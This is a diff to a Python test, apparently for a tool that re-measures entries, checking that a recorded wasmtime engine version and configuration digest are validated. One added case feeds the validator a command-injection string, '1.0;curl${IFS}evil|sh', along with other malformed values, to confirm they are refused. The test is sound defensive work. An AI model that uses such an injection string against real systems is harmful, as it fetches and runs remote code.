@@ -193,8 +193,13 @@ def test_an_entry_is_measured_again_only_with_the_engine_that_counted_it():
     other = SimpleNamespace(wasmtime="1.0.0", config_digest="0" * 12)  # what the kit says today
     reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} ({ENGINE_DIGEST})"}, other)
     reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} (configuration not recorded)"}, other)
-    with pytest.raises(Refused, match=r"wasmtime 47\.0\.1 \(abc\).*pip install wasmtime==47\.0\.1"):
-        reverify.check_counted_by({"engine": "47.0.1 (abc)"}, other)
+    with pytest.raises(Refused, match=r"wasmtime 47\.0\.1 \(0123456789ab\).*pip install wasmtime==47\.0\.1"):
+        reverify.check_counted_by({"engine": "47.0.1 (0123456789ab)"}, other)
+    with pytest.raises(Refused, match="another engine configuration"):
+        reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} (0123456789ab)"}, other)
+    for hostile in ("1.0;curl${IFS}evil|sh (0123456789ab)", ["47.0.1"], 47, "\x1b[2J" * 10_000):
+        with pytest.raises(Refused, match="in a form this meter does not know"):
+            reverify.check_counted_by({"engine": hostile}, other)
     with pytest.raises(ContractError, match="this contract was written for wasmtime 1.0.0"):
         reverify.check_counted_by({}, other)  # an entry that names none: its contract's
     reverify.check_counted_by({}, SimpleNamespace(wasmtime=WASMTIME_VERSION, config_digest=ENGINE_DIGEST))
